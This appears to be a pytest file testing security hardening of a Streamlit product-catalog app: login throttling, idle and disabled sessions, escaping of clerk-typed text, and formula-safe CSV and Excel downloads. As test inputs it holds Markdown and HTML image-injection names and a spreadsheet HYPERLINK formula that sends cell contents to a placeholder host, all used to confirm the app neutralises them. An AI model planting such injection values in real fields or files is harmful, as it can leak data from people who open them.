"""The app locked down: throttled logins, sessions that end, clerk text shown as typed, formula-safe downloads."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from sqlmodel import select
from streamlit.testing.v1 import AppTest

from catalog.db import session_scope
from catalog.models import ChannelAccount, ChannelState, Product
from syndicator.users import disable_user
from tests.support.apptest import APP, logged_in, open_page
from tests.support.ui import PASSWORD, seed_two_coops

# A clerk-typed name that Markdown would turn into a remote image (the finding: "a shop name is rendered as
# Markdown, so a remote image loads"), and the same through HTML.
HOSTILE_NAMES = ("Chè Tân Cương ![x](http://127.0.0.1:9/x.png)", 'Chè Tân Cương <img src="http://127.0.0.1:9/y.png">')
FORMULA_NAME = '=HYPERLINK("http://127.0.0.1:9/?d="&A1,"Chè búp Tân Cương")'
MARKDOWN_KINDS = ("markdown", "caption", "info", "success", "error", "warning", "header", "subheader", "title")


@pytest.fixture
def seeded(engine, database_url, monkeypatch):
    seed_two_coops(engine)
    monkeypatch.setenv("SYNDICATOR_DATABASE_URL", database_url)
    return engine


def _try_login(app: AppTest, username: str, password: str) -> AppTest:
    app.text_input(key="login_username").input(username)
    app.text_input(key="login_password").input(password)
    app.button[0].click()
    return app.run()


def _rendered(app: AppTest) -> list[str]:
    """What a browser would get from every element Streamlit renders as Markdown (CommonMark, as HTML)."""
    markdown = MarkdownIt("commonmark")
    return [markdown.render(str(e.value)) for kind in MARKDOWN_KINDS for e in getattr(app, kind)]


# ---------------------------------------------------------------- logins and sessions


def test_the_app_refuses_the_right_password_after_five_wrong_ones(seeded):
    app = AppTest.from_file(str(APP), default_timeout=30).run()
    for attempt in range(5):
        _try_login(app, "tancuong", f"doan-mo-{attempt}")
    _try_login(app, "tancuong", PASSWORD)
    assert [e.value for e in app.error] == ["Đăng nhập sai quá nhiều lần; thử lại sau 1 phút."]
    assert "viewer" not in app.session_state


def test_a_disabled_users_open_session_ends_at_the_next_page(seeded):
    app = open_page(logged_in("tancuong"), "products")
    disable_user(seeded, "tancuong")
    app.run()
    assert "viewer" not in app.session_state
    assert not [t for t in app.text_input if t.key == "products_query"]
    notice = [i.value for i in app.info]  # the page's address now shows the login form, with why
    assert notice == ["Tài khoản đã bị khoá hoặc không còn; phiên làm việc đã kết thúc."]


def test_a_session_idle_past_the_setting_must_log_in_again(seeded, monkeypatch):
    monkeypatch.setenv("SYNDICATOR_SESSION_IDLE_MINUTES", "5")
    app = open_page(logged_in("tancuong"), "products")
    app.session_state["last_active"] = datetime.now(UTC) - timedelta(minutes=6)
    app.run()
    assert "viewer" not in app.session_state
    notice = [i.value for i in app.info]  # the page's address now shows the login form, with why
    assert notice == ["Phiên làm việc đã hết hạn vì không dùng; hãy đăng nhập lại."]


def test_a_session_used_within_the_setting_stays_logged_in(seeded, monkeypatch):
    monkeypatch.setenv("SYNDICATOR_SESSION_IDLE_MINUTES", "5")
    app = open_page(logged_in("tancuong"), "products")
    app.session_state["last_active"] = datetime.now(UTC) - timedelta(minutes=4)
    app.run()
    assert app.session_state["viewer"].username == "tancuong"


def test_logging_out_forgets_everything_the_session_held_but_the_language(seeded):
    app = open_page(logged_in("tancuong", lang="en"), "products")
    app.text_input(key="products_query").input("che bup")
    app.run()
    app.button(key="logout").click()
    app.run()
    assert "viewer" not in app.session_state and "products_query" not in app.session_state
    assert app.session_state["lang"] == "en"


def test_an_admin_disables_a_login_on_the_admin_page(seeded):
    app = open_page(logged_in("quantri"), "admin")
    app.selectbox(key="login_to_change").set_value("vonhai")
    app.button(key="disable_user").click()
    app.run()
    assert any(s.value.startswith("Đã khoá vonhai") for s in app.success)
    refused = _try_login(AppTest.from_file(str(APP), default_timeout=30).run(), "vonhai", PASSWORD)
    assert [e.value for e in refused.error] == ["Sai tên đăng nhập hoặc mật khẩu."]


def test_an_admin_cannot_disable_their_own_login(seeded):
    app = open_page(logged_in("quantri"), "admin")
    app.selectbox(key="login_to_change").set_value("quantri")
    app.button(key="disable_user").click()
    app.run()
    assert [e.value for e in app.error] == ["không thể tự khoá tài khoản của mình"]
    assert _try_login(AppTest.from_file(str(APP), default_timeout=30).run(), "quantri", PASSWORD).session_state[
        "viewer"].username == "quantri"


# ---------------------------------------------------------------- clerk text is shown as typed


def _name_the_tea_shops(engine, name: str) -> None:
    """The Shopee shop must be connected again; the Voso one is a spreadsheet feed: both show their name."""
    with session_scope(engine) as session:
        for shop in session.exec(select(ChannelAccount).where(ChannelAccount.shop_id.in_(["100001", "V-77"]))):
            shop.name = name
            shop.state = ChannelState.needs_reauthorisation if shop.shop_id == "100001" else ChannelState.feed


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_shop_name_with_markup_is_shown_as_typed_never_as_an_image(seeded, name):
    _name_the_tea_shops(seeded, name)
    rendered = _rendered(open_page(logged_in("tancuong"), "channels"))
    assert not [page for page in rendered if re.search(r"<img|<a ", page)], rendered
    shown = [html.unescape(re.sub(r"<[^>]+>", "", page)) for page in rendered]
    assert sum(name in text for text in shown) == 2, shown  # the feed box and the "connect again" warning


@pytest.mark.parametrize("typed", HOSTILE_NAMES)
def test_a_typed_value_echoed_in_an_error_is_shown_as_typed(seeded, typed):
    app = open_page(logged_in("tancuong"), "products")
    app.text_input(key="edit_sku").input("CHE-DB-200")
    app.run()
    app.text_input(key="field_CHE-DB-200_price").input(typed)
    next(b for b in app.button if b.label == "Lưu").click()
    app.run()
    rendered = _rendered(app)
    assert not [page for page in rendered if re.search(r"<img|<a ", page)], rendered
    assert any(typed in html.unescape(re.sub(r"<[^>]+>", "", page)) for page in rendered), rendered


# ---------------------------------------------------------------- downloads are formula-safe




@pytest.fixture
def formula_product(seeded):
    """A clerk named a product so that a spreadsheet would run it as a formula; it has sold."""
    with session_scope(seeded) as session:
        session.exec(select(Product).where(Product.code == "CHE-DB")).one().name = FORMULA_NAME
    return seeded


def test_the_sales_csv_download_starts_a_formula_cell_with_a_quote(formula_product, offered):
    app = open_page(logged_in("tancuong"), "sales")
    rows = list(csv.reader(io.StringIO(offered(app, "sales-product-csv").content.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + FORMULA_NAME]


def test_the_sales_excel_download_holds_the_formula_as_text(formula_product, offered):
    app = open_page(logged_in("tancuong"), "sales")
    sheet = load_workbook(io.BytesIO(offered(app, "sales-product-xlsx").content)).active
    cell = sheet["A2"]
    assert (cell.data_type, cell.value) == ("s", "'" + FORMULA_NAME)
